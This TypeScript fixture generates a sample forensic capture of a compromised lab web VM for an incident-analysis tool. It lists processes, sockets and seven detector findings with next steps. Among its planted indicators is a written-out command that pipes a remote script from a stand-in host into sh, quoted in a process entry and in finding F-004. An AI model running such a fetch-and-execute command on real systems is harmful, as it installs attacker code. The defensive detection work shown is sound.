import { createHash } from 'node:crypto';
import type {
  GuestString,
  ProcessesDocument,
  SocketsDocument,
  StoredFinding,
  StoredProcess,
  StoredSocket,
} from '../../../main/bundle/bundle-schema';
import { encodeGuestBytes } from '../../../main/bundle/bundle-schema';
import { appendCustody, createBundleWriter, type BundleIdentity, type SealedBundle } from '../../../main/bundle/bundle-writer';

// The sample capture: a small Debian web VM "lab-web" on host "kvm-lab-01" with a handful of planted
// oddities. Everything is fixed or drawn from a seeded generator, so the output is the same each run.

const BOOT = Date.parse('2026-03-01T06:12:08Z');
const CAPTURE_START = '2026-03-14T09:26:53.000Z';
const CAPTURE_END = '2026-03-14T09:29:41.000Z';

/** Who and what the sample capture is about. */
export const sampleIdentity: BundleIdentity = {
  captureId: 'c3a1e7d2-5b8f-4e0a-9d6c-2f4b8a1e7c55',
  toolVersion: '0.1.0',
  helperVersion: '0.1.0',
  host: {
    name: 'kvm-lab-01',
    hostKeySha256: `SHA256:${createHash('sha256').update('kvm-lab-01 ssh-ed25519 sample host key').digest('base64').replace(/=+$/, '')}`,
  },
  vm: { name: 'lab-web', uuid: '8f14e45f-ceea-467f-a0e6-2a9b6c3d1e07' },
  cloneId: 'clone-lab-web-20260314T092653Z',
  startedAt: CAPTURE_START,
};

/** A small seeded generator (mulberry32) so "random" sizes are the same on every run. */
function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let value = state;
    value = Math.imul(value ^ (value >>> 15), value | 1);
    value ^= value + Math.imul(value ^ (value >>> 7), value | 61);
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
  };
}

const random = seeded(20260314);
const between = (low: number, high: number): number => low + Math.floor(random() * (high - low + 1));
const at = (secondsAfterBoot: number): string => new Date(BOOT + secondsAfterBoot * 1000).toISOString();

interface ProcessSpec {
  readonly pid: number;
  readonly ppid: number;
  readonly name: GuestString;
  readonly argv?: readonly GuestString[];
  readonly exe?: string | null;
  readonly user?: string;
  readonly uid?: number;
  readonly state?: string;
  readonly threads?: number;
  readonly rssKiB?: number;
  readonly cpuSeconds?: number;
  readonly startedAfter?: number;
  readonly exeDeleted?: boolean;
  readonly cwd?: string;
  readonly environment?: readonly GuestString[];
}

const processes: StoredProcess[] = [];

function add(spec: ProcessSpec): void {
  const argv = spec.argv ?? [];
  processes.push({
    pid: spec.pid,
    ppid: spec.ppid,
    name: spec.name,
    user: spec.user ?? 'root',
    uid: spec.uid ?? 0,
    state: spec.state ?? 'S',
    exe: spec.exe === undefined ? (typeof argv[0] === 'string' ? argv[0] : null) : spec.exe,
    exeDeleted: spec.exeDeleted ?? false,
    cwd: spec.cwd ?? '/',
    argv: [...argv],
    environment: [...(spec.environment ?? ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'LANG=C.UTF-8'])],
    kernelThread: false,
    startedAt: at(spec.startedAfter ?? between(2, 40)),
    threads: spec.threads ?? 1,
    rssKiB: spec.rssKiB ?? between(2_000, 12_000),
    cpuSeconds: spec.cpuSeconds ?? Math.round(random() * 3000) / 100,
  });
}

function addKernelThread(pid: number, name: string): void {
  processes.push({
    pid,
    ppid: pid === 2 ? 0 : 2,
    name,
    user: 'root',
    uid: 0,
    state: name.startsWith('kworker') && random() < 0.3 ? 'R' : 'I',
    exe: null,
    exeDeleted: false,
    cwd: '/',
    argv: [],
    kernelThread: true,
    startedAt: at(0),
    threads: 1,
    rssKiB: 0,
    cpuSeconds: Math.round(random() * 400) / 100,
  });
}

// ---- kernel ---------------------------------------------------------------------------------------
add({ pid: 1, ppid: 0, name: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startedAfter: 0, rssKiB: 12_804, cpuSeconds: 41.2 });
const kernelThreads = [
  'kthreadd', 'rcu_gp', 'rcu_par_gp', 'slub_flushwq', 'netns', 'kworker/0:0H-events_highpri', 'mm_percpu_wq',
  'rcu_tasks_kthread', 'rcu_tasks_rude_kthread', 'rcu_tasks_trace_kthread', 'ksoftirqd/0', 'rcu_preempt', 'migration/0',
  'cpuhp/0', 'cpuhp/1', 'migration/1', 'ksoftirqd/1', 'kworker/1:0H-events_highpri', 'kdevtmpfs', 'inet_frag_wq',
  'kauditd', 'khungtaskd', 'oom_reaper', 'writeback', 'kcompactd0', 'ksmd', 'khugepaged', 'kintegrityd', 'kblockd',
  'blkcg_punt_bio', 'tpm_dev_wq', 'edac-poller', 'devfreq_wq', 'kworker/0:1H-kblockd', 'kswapd0', 'ecryptfs-kthrea',
  'kthrotld', 'acpi_thermal_pm', 'scsi_eh_0', 'scsi_tmf_0', 'vfio-irqfd-clea', 'mld', 'ipv6_addrconf', 'kstrp',
  'zswap-shrink', 'kworker/u5:0', 'jbd2/vda1-8', 'ext4-rsv-conver', 'kworker/1:1H-kblockd', 'kworker/0:0-events',
  'kworker/0:1-mm_percpu_wq', 'kworker/1:0-events', 'kworker/1:2-cgroup_destroy', 'kworker/u4:0-events_unbound',
  'kworker/u4:1-flush-254:0', 'kworker/0:2-events', 'kworker/1:1-events_power_efficient',
];
kernelThreads.forEach((name, index) => addKernelThread(index + 2, name));

// ---- system services -------------------------------------------------------------------------------
add({ pid: 288, ppid: 1, name: 'systemd-journal', argv: ['/lib/systemd/systemd-journald'], rssKiB: 18_420 });
add({ pid: 312, ppid: 1, name: 'systemd-udevd', argv: ['/lib/systemd/systemd-udevd'] });
add({ pid: 401, ppid: 1, name: 'systemd-network', argv: ['/lib/systemd/systemd-networkd'], user: 'systemd-network', uid: 998 });
add({ pid: 405, ppid: 1, name: 'systemd-resolve', argv: ['/lib/systemd/systemd-resolved'], user: 'systemd-resolve', uid: 997 });
add({ pid: 406, ppid: 1, name: 'systemd-timesyn', argv: ['/lib/systemd/systemd-timesyncd'], user: 'systemd-timesync', uid: 996, threads: 2 });
add({ pid: 512, ppid: 1, name: 'dbus-daemon', argv: ['/usr/bin/dbus-daemon', '--system', '--address=systemd:', '--nofork', '--nopidfile', '--systemd-activation', '--syslog-only'], user: 'messagebus', uid: 101 });
add({ pid: 515, ppid: 1, name: 'systemd-logind', argv: ['/lib/systemd/systemd-logind'] });
add({ pid: 518, ppid: 1, name: 'cron', argv: ['/usr/sbin/cron', '-f'] });
add({ pid: 520, ppid: 1, name: 'rsyslogd', argv: ['/usr/sbin/rsyslogd', '-n', '-iNONE'], threads: 4 });
add({ pid: 530, ppid: 1, name: 'qemu-ga', argv: ['/usr/sbin/qemu-ga'] });
add({ pid: 540, ppid: 1, name: 'agetty', argv: ['/sbin/agetty', '-o', '-p -- \\u', '--keep-baud', '115200,57600,38400,9600', '-', 'vt220'], exe: '/usr/sbin/agetty' });
add({ pid: 541, ppid: 1, name: 'agetty', argv: ['/sbin/agetty', '-o', '-p -- \\u', '--noclear', '-', 'linux'], exe: '/usr/sbin/agetty' });
add({ pid: 560, ppid: 1, name: 'unattended-upgr', argv: ['/usr/bin/python3', '/usr/share/unattended-upgrades/unattended-upgrade-shutdown', '--wait-for-signal'], exe: '/usr/bin/python3.11', threads: 2 });
add({ pid: 571, ppid: 1, name: 'chronyd', argv: ['/usr/sbin/chronyd', '-F', '1'], user: '_chrony', uid: 106 });
add({ pid: 572, ppid: 571, name: 'chronyd', argv: ['/usr/sbin/chronyd', '-F', '1'], user: '_chrony', uid: 106 });

// ---- sshd and an admin session with a shell four deep --------------------------------------------
add({ pid: 612, ppid: 1, name: 'sshd', argv: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], exe: '/usr/sbin/sshd' });
add({ pid: 2201, ppid: 612, name: 'sshd', argv: ['sshd: admin [priv]'], exe: '/usr/sbin/sshd', startedAfter: 1_139_000 });
add({
  pid: 2210,
  ppid: 2201,
  name: 'sshd',
  argv: ['sshd: admin@pts/0'],
  exe: '/usr/sbin/sshd',
  user: 'admin',
  uid: 1000,
  startedAfter: 1_139_001,
  environment: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsystemd-shim.so', 'LANG=C.UTF-8', 'PATH=/usr/local/bin:/usr/bin:/bin'],
});
add({ pid: 2211, ppid: 2210, name: 'bash', argv: ['-bash'], exe: '/usr/bin/bash', user: 'admin', uid: 1000, cwd: '/home/admin', startedAfter: 1_139_002 });
add({ pid: 2250, ppid: 2211, name: 'sudo', argv: ['sudo', '-i'], exe: '/usr/bin/sudo', startedAfter: 1_139_090 });
add({ pid: 2251, ppid: 2250, name: 'bash', argv: ['-bash'], exe: '/usr/bin/bash', cwd: '/root', startedAfter: 1_139_091 });
add({ pid: 2290, ppid: 2251, name: 'bash', argv: ['bash'], exe: '/usr/bin/bash', cwd: '/root', startedAfter: 1_139_300 });
add({ pid: 2291, ppid: 2290, name: 'bash', argv: ['bash', '-c', 'cd /srv/shop && ./maintenance.sh'], exe: '/usr/bin/bash', cwd: '/srv/shop', startedAfter: 1_139_400 });
add({ pid: 2292, ppid: 2291, name: 'python3', argv: ['/usr/bin/python3', '/home/admin/notes\u202Etxt.py'], exe: '/usr/bin/python3.11', cwd: '/srv/shop', startedAfter: 1_139_401 });
add({ pid: 2320, ppid: 2291, name: 'watch', argv: ['watch', '-n', '5', 'systemctl status nginx'], exe: '/usr/bin/watch', startedAfter: 1_139_420 });

// ---- web server with CGI children ------------------------------------------------------------------
add({ pid: 700, ppid: 1, name: 'nginx', argv: ['nginx: master process /usr/sbin/nginx -g daemon on; master_process on;'], exe: '/usr/sbin/nginx', rssKiB: 1_632 });
for (const pid of [701, 702]) {
  add({ pid, ppid: 700, name: 'nginx', argv: ['nginx: worker process'], exe: '/usr/sbin/nginx', user: 'www-data', uid: 33 });
}
add({ pid: 720, ppid: 1, name: 'fcgiwrap', argv: ['/usr/sbin/fcgiwrap', '-f'], user: 'www-data', uid: 33 });
add({ pid: 3110, ppid: 720, name: 'status.cgi', argv: ['/usr/bin/perl', '/usr/lib/cgi-bin/status.cgi'], exe: '/usr/bin/perl', user: 'www-data', uid: 33, cwd: '/usr/lib/cgi-bin', startedAfter: 1_141_000 });
add({ pid: 3111, ppid: 720, name: 'report.cgi', argv: ['/usr/bin/python3', '/usr/lib/cgi-bin/report.cgi'], exe: '/usr/bin/python3.11', user: 'www-data', uid: 33, cwd: '/usr/lib/cgi-bin', startedAfter: 1_141_004 });
add({ pid: 3120, ppid: 720, name: 'sh', argv: ['sh', '-c', 'curl -s http://203.0.113.77/u.sh | sh; printf "\u001b[2J\u001b[1;1Hok"'], exe: '/usr/bin/dash', user: 'www-data', uid: 33, cwd: '/usr/lib/cgi-bin', startedAfter: 1_141_020 });
add({ pid: 3121, ppid: 3120, name: 'sh', argv: ['sh'], exe: '/usr/bin/dash', user: 'www-data', uid: 33, cwd: '/usr/lib/cgi-bin', startedAfter: 1_141_021 });
add({ pid: 3122, ppid: 3121, name: 'curl', argv: ['curl', '-s', 'http://203.0.113.77/u.sh'], exe: '/usr/bin/curl', user: 'www-data', uid: 33, state: 'S', startedAfter: 1_141_021 });

// ---- application: gunicorn, a worker, a dashboard ------------------------------------------------------
add({ pid: 800, ppid: 1, name: 'gunicorn', argv: ['/srv/shop/venv/bin/python3', '/srv/shop/venv/bin/gunicorn', '--workers', '4', '--bind', '127.0.0.1:8000', 'shop.wsgi'], exe: '/usr/bin/python3.11', user: 'shop', uid: 1001, cwd: '/srv/shop', rssKiB: 31_240 });
for (let index = 0; index < 4; index += 1) {
  add({ pid: 805 + index, ppid: 800, name: 'gunicorn', argv: ['/srv/shop/venv/bin/python3', '/srv/shop/venv/bin/gunicorn', '--workers', '4', '--bind', '127.0.0.1:8000', 'shop.wsgi'], exe: '/usr/bin/python3.11', user: 'shop', uid: 1001, cwd: '/srv/shop', rssKiB: between(60_000, 90_000), threads: 1 });
}
add({ pid: 830, ppid: 1, name: 'shop-worker', argv: ['/srv/shop/venv/bin/python3', '-m', 'shop.worker', '--queue', 'orders', '--concurrency', '8'], exe: '/usr/bin/python3.11', user: 'shop', uid: 1001, cwd: '/srv/shop', threads: 9, rssKiB: 118_400, cpuSeconds: 1822.5 });
add({ pid: 850, ppid: 1, name: 'node', argv: ['/usr/bin/node', '/opt/dashboard/server.js', '--port', '3000'], user: 'dashboard', uid: 1002, cwd: '/opt/dashboard', threads: 11, rssKiB: 94_112 });

// ---- database-like daemons ------------------------------------------------------------------------------------
add({ pid: 900, ppid: 1, name: 'postgres', argv: ['/usr/lib/postgresql/15/bin/postgres', '-D', '/var/lib/postgresql/15/main', '-c', 'config_file=/etc/postgresql/15/main/postgresql.conf'], user: 'postgres', uid: 105, cwd: '/var/lib/postgresql/15/main', rssKiB: 30_112 });
const postgresChildren = ['postgres: 15/main: checkpointer', 'postgres: 15/main: background writer', 'postgres: 15/main: walwriter', 'postgres: 15/main: autovacuum launcher', 'postgres: 15/main: logical replication launcher'];
postgresChildren.forEach((title, index) => {
  add({ pid: 910 + index, ppid: 900, name: 'postgres', argv: [title], exe: '/usr/lib/postgresql/15/bin/postgres', user: 'postgres', uid: 105, cwd: '/var/lib/postgresql/15/main' });
});
for (let index = 0; index < 8; index += 1) {
  add({ pid: 2400 + index, ppid: 900, name: 'postgres', argv: [`postgres: 15/main: shop shopdb 127.0.0.1(${51540 + index}) idle`], exe: '/usr/lib/postgresql/15/bin/postgres', user: 'postgres', uid: 105, cwd: '/var/lib/postgresql/15/main', startedAfter: between(1_000_000, 1_100_000) });
}
add({ pid: 950, ppid: 1, name: 'redis-server', argv: ['/usr/bin/redis-server 127.0.0.1:6379'], exe: '/usr/bin/redis-server', user: 'redis', uid: 107, threads: 5, rssKiB: 9_880 });

// ---- cron jobs and assorted short-lived children ----------------------------------------------------------------
add({ pid: 3300, ppid: 518, name: 'cron', argv: ['/usr/sbin/CRON', '-f'], exe: '/usr/sbin/cron', startedAfter: 1_141_100 });
add({ pid: 3301, ppid: 3300, name: 'sh', argv: ['/bin/sh', '-c', 'cd / && run-parts --report /etc/cron.hourly'], exe: '/usr/bin/dash', startedAfter: 1_141_100 });
add({ pid: 3302, ppid: 3301, name: 'run-parts', argv: ['run-parts', '--report', '/etc/cron.hourly'], exe: '/usr/bin/run-parts', startedAfter: 1_141_100 });
add({ pid: 3303, ppid: 3302, name: 'logrotate', argv: ['/usr/sbin/logrotate', '/etc/logrotate.conf'], exe: '/usr/sbin/logrotate', state: 'D', startedAfter: 1_141_101 });

// ---- planted oddities ------------------------------------------------------------------------------------------
add({ pid: 4711, ppid: 1, name: 'cache-update', argv: ['/usr/local/bin/.cache-update', '--daemon'], exe: '/usr/local/bin/.cache-update', exeDeleted: true, user: 'www-data', uid: 33, cwd: '/var/www', startedAfter: 1_141_030 });
add({ pid: 4801, ppid: 1, name: 'kdevtmpfsi', argv: ['/tmp/.X11-unix/.x/kdevtmpfsi', encodeGuestBytes(Buffer.from([0x2d, 0x2d, 0x63, 0x66, 0x67, 0x3d, 0x2f, 0x74, 0x6d, 0x70, 0x2f, 0xff, 0xfe, 0x2e, 0x6a, 0x73, 0x6f, 0x6e]))], exe: '/tmp/.X11-unix/.x/kdevtmpfsi', user: 'www-data', uid: 33, cwd: '/tmp/.X11-unix/.x', threads: 4, rssKiB: 2_310_112, cpuSeconds: 98_412.7, startedAfter: 1_141_060 });
add({ pid: 4802, ppid: 1, name: 'kworker/0:2', argv: ['[kworker/0:2]'], exe: '/var/tmp/.k/kw', user: 'www-data', uid: 33, cwd: '/var/tmp/.k', startedAfter: 1_141_070 });

// Fill up to a realistic count with short-lived kernel workers, as a busy 1-vCPU VM has.
for (let pid = 5000; processes.length < 150; pid += between(1, 9)) addKernelThread(pid, `kworker/u4:${pid - 4990}-events_unbound`);

function socket(spec: Partial<StoredSocket> & Pick<StoredSocket, 'protocol' | 'state' | 'localAddress' | 'localPort' | 'pid'>): StoredSocket {
  return { remoteAddress: null, remotePort: null, inode: 20_000 + sockets.length * 7, ...spec };
}

const sockets: StoredSocket[] = [];
const listeners: Array<[StoredSocket['protocol'], string, number, number]> = [
  ['tcp', '0.0.0.0', 22, 612], ['tcp6', '::', 22, 612], ['tcp', '0.0.0.0', 80, 700], ['tcp', '0.0.0.0', 443, 700],
  ['tcp6', '::', 80, 700], ['tcp', '127.0.0.1', 8000, 800], ['tcp', '127.0.0.1', 3000, 850], ['tcp', '127.0.0.1', 5432, 900],
  ['tcp', '127.0.0.1', 6379, 950], ['tcp', '127.0.0.53', 53, 405], ['tcp', '0.0.0.0', 31337, 4711],
];
for (const [protocol, localAddress, localPort, pid] of listeners) sockets.push(socket({ protocol, state: 'LISTEN', localAddress, localPort, pid }));
sockets.push(socket({ protocol: 'udp', state: 'UNCONN', localAddress: '127.0.0.53', localPort: 53, pid: 405 }));
sockets.push(socket({ protocol: 'udp', state: 'UNCONN', localAddress: '127.0.0.1', localPort: 323, pid: 571 }));
sockets.push(socket({ protocol: 'udp', state: 'UNCONN', localAddress: '10.20.0.15', localPort: 68, pid: 401 }));
sockets.push(socket({ protocol: 'tcp', state: 'ESTABLISHED', localAddress: '10.20.0.15', localPort: 22, remoteAddress: '198.51.100.23', remotePort: 53122, pid: 2201 }));
for (let index = 0; index < 4; index += 1) {
  sockets.push(socket({ protocol: 'tcp', state: 'ESTABLISHED', localAddress: '127.0.0.1', localPort: 41000 + index * 17, remoteAddress: '127.0.0.1', remotePort: 8000, pid: 701 + (index % 2) }));
  sockets.push(socket({ protocol: 'tcp', state: 'ESTABLISHED', localAddress: '127.0.0.1', localPort: 8000, remoteAddress: '127.0.0.1', remotePort: 41000 + index * 17, pid: 805 + index }));
}
for (let index = 0; index < 8; index += 1) {
  sockets.push(socket({ protocol: 'tcp', state: 'ESTABLISHED', localAddress: '127.0.0.1', localPort: 5432, remoteAddress: '127.0.0.1', remotePort: 51540 + index, pid: 2400 + index }));
}
sockets.push(socket({ protocol: 'tcp', state: 'ESTABLISHED', localAddress: '10.20.0.15', localPort: 46220, remoteAddress: '203.0.113.50', remotePort: 3333, pid: 4801 }));
sockets.push(socket({ protocol: 'tcp', state: 'ESTABLISHED', localAddress: '10.20.0.15', localPort: 31337, remoteAddress: '192.0.2.66', remotePort: 60812, pid: 4711 }));
sockets.push(socket({ protocol: 'tcp', state: 'SYN-SENT', localAddress: '10.20.0.15', localPort: 50110, remoteAddress: '203.0.113.77', remotePort: 80, pid: 3122 }));
sockets.push(socket({ protocol: 'tcp', state: 'TIME-WAIT', localAddress: '10.20.0.15', localPort: 443, remoteAddress: '198.51.100.140', remotePort: 61001, pid: null }));
sockets.push(socket({ protocol: 'unix', state: 'LISTEN', localAddress: '/run/dbus/system_bus_socket', localPort: null, pid: 512 }));
sockets.push(socket({ protocol: 'unix', state: 'LISTEN', localAddress: '/run/systemd/journal/stdout', localPort: null, pid: 288 }));
sockets.push(socket({ protocol: 'unix', state: 'LISTEN', localAddress: '/var/run/postgresql/.s.PGSQL.5432', localPort: null, pid: 900 }));
sockets.push(socket({ protocol: 'unix', state: 'LISTEN', localAddress: '/run/fcgiwrap.socket', localPort: null, pid: 720 }));

const findings: StoredFinding[] = [
  {
    id: 'F-001',
    rule: 'exe-in-temp-dir',
    severity: 'critical',
    title: 'Process runs from a temporary folder',
    detail: 'pid 4801 "kdevtmpfsi" runs /tmp/.X11-unix/.x/kdevtmpfsi as www-data, uses 98412 CPU seconds and 2.2 GiB RSS, and connects to 203.0.113.50:3333 (a common mining pool port).',
    pids: [4801],
    falsePositives: 'Installers and build tools run briefly from /tmp; long-running ones rarely do.',
    nextStep: 'Hash the binary from the clone\'s disk overlay and compare with known miners; find how www-data wrote to /tmp (web logs around the start time).',
  },
  {
    id: 'F-002',
    rule: 'exe-deleted',
    severity: 'high',
    title: 'Process runs a deleted executable',
    detail: 'pid 4711 runs /usr/local/bin/.cache-update, which was deleted after start (hidden name, owned by www-data).',
    pids: [4711],
    falsePositives: 'A package upgrade replaces binaries of running services until they restart; check the package log for the same time.',
    nextStep: 'Recover the executable from the memory dump (/proc/4711/exe in the clone) and look at what it listens on.',
  },
  {
    id: 'F-003',
    rule: 'suspicious-listener-port',
    severity: 'high',
    title: 'Listener on port 31337',
    detail: 'pid 4711 listens on 0.0.0.0:31337 and has a connection from 192.0.2.66:60812.',
    pids: [4711],
    falsePositives: 'Some lab tools use 31337 for fun; check whether the port is documented for this VM.',
    nextStep: 'Block the port at the host firewall for the production VM and capture traffic from 192.0.2.66.',
  },
  {
    id: 'F-004',
    rule: 'web-server-shell',
    severity: 'high',
    title: 'Shell spawned by the web server',
    detail: 'fcgiwrap (pid 720, www-data) started sh (pid 3120): sh -c "curl -s http://203.0.113.77/u.sh | sh; printf \\"\u001b[2J\u001b[1;1Hok\\"".',
    pids: [3120, 3121, 3122],
    falsePositives: 'CGI scripts may call sh for simple tasks; a pipe from curl into sh never is one.',
    nextStep: 'Find the request that ran it in the nginx access log and patch the CGI script it reached.',
  },
  {
    id: 'F-005',
    rule: 'fake-kernel-thread',
    severity: 'high',
    title: 'User process named like a kernel thread',
    detail: 'pid 4802 calls itself "[kworker/0:2]" but its parent is pid 1, not kthreadd, and it runs /var/tmp/.k/kw as www-data.',
    pids: [4802],
    falsePositives: 'None known: kernel threads have no executable and are children of kthreadd (pid 2).',
    nextStep: 'Copy /var/tmp/.k from the clone overlay for analysis; look for the same name on other VMs.',
  },
  {
    id: 'F-006',
    rule: 'ld-preload',
    severity: 'medium',
    title: 'LD_PRELOAD set in a process environment',
    detail: 'pid 2210 (sshd: admin@pts/0) has LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsystemd-shim.so; no package owns that library.',
    pids: [2210],
    falsePositives: 'Profilers and memory debuggers use LD_PRELOAD; they are rare on a web server.',
    nextStep: 'Check /etc/ld.so.preload and the sshd PAM configuration in the clone; hash the library.',
  },
  {
    id: 'F-007',
    rule: 'bidi-control-in-argv',
    severity: 'low',
    title: 'Command line contains a right-to-left override',
    detail: 'pid 2292 runs /home/admin/notes\u202Etxt.py; the override makes the name read as "notesyp.txt".',
    pids: [2292],
    falsePositives: 'Right-to-left languages in file names; an override inside an extension is almost never that.',
    nextStep: 'Ask the admin user about the file and read it from the clone overlay.',
  },
];

const logLines = [
  `${CAPTURE_START} INFO helper 0.1.0 on kvm-lab-01: clone of lab-web requested`,
  '2026-03-14T09:26:53.412Z INFO overlay created on the source image (qcow2, backing read-only)',
  '2026-03-14T09:26:54.020Z INFO clone qemu started with -incoming defer, network restricted',
  '2026-03-14T09:26:57.884Z INFO migration reached pre-switchover; disk snapshot taken',
  '2026-03-14T09:26:57.953Z INFO source resumed after a 69 ms pause',
  '2026-03-14T09:26:58.640Z INFO clone running; guest agent answered',
  `2026-03-14T09:27:02.117Z INFO collected ${processes.length} processes, ${sockets.length} sockets`,
  '2026-03-14T09:29:31.004Z INFO detector found 7 findings',
  '2026-03-14T09:29:40.510Z INFO clone destroyed; overlay committed back and removed',
  `${CAPTURE_END} INFO capture finished`,
];

const commands = [
  { argv: ['civic-helper', 'clone', '--vm', 'lab-web', '--isolate-network'], exitCode: 0, startedAt: CAPTURE_START, endedAt: '2026-03-14T09:26:58.640Z' },
  { argv: ['civic-helper', 'guest-exec', '--clone', 'clone-lab-web-20260314T092653Z', '--', '/opt/civic/collect', 'processes'], exitCode: 0, startedAt: '2026-03-14T09:26:58.700Z', endedAt: '2026-03-14T09:27:01.310Z' },
  { argv: ['civic-helper', 'guest-exec', '--clone', 'clone-lab-web-20260314T092653Z', '--', '/opt/civic/collect', 'sockets'], exitCode: 0, startedAt: '2026-03-14T09:27:01.320Z', endedAt: '2026-03-14T09:27:02.117Z' },
  { argv: ['civic-helper', 'detect', '--rules', 'default'], exitCode: 0, startedAt: '2026-03-14T09:27:02.200Z', endedAt: '2026-03-14T09:29:31.004Z' },
  { argv: ['civic-helper', 'destroy-clone', '--clone', 'clone-lab-web-20260314T092653Z'], exitCode: 0, startedAt: '2026-03-14T09:29:31.100Z', endedAt: '2026-03-14T09:29:40.510Z' },
];

/** Writes the sample capture as a sealed bundle folder (which must not exist yet). */
export async function writeSampleBundle(folder: string): Promise<SealedBundle> {
  const writer = await createBundleWriter(folder, sampleIdentity);
  const processesDocument: ProcessesDocument = { schemaVersion: 1, capturedAt: '2026-03-14T09:27:01.310Z', processes };
  const socketsDocument: SocketsDocument = { schemaVersion: 1, capturedAt: '2026-03-14T09:27:02.117Z', sockets };
  await writer.addJson({ path: 'artifacts/processes.json', role: 'processes' }, processesDocument);
  await writer.addJson({ path: 'artifacts/sockets.json', role: 'sockets' }, socketsDocument);
  await writer.addJson({ path: 'artifacts/findings.json', role: 'findings' }, { schemaVersion: 1, generatedAt: '2026-03-14T09:29:31.004Z', findings });
  await writer.addArtifact({ path: 'artifacts/helper.log', mediaType: 'text/plain', role: 'log' }, logLines.join('\n') + '\n');
  for (const command of commands) writer.recordCommand(command);
  const sealed = await writer.seal({ endedAt: CAPTURE_END, at: CAPTURE_END, actor: 'civic-helper@kvm-lab-01' });
  const received = await appendCustody(folder, {
    at: '2026-03-14T09:29:47.000Z',
    actor: 'civic-workbench@analyst-01',
    action: 'receive',
    subject: 'bundle',
  });
  return { ...sealed, custody: [...sealed.custody, received] };
}
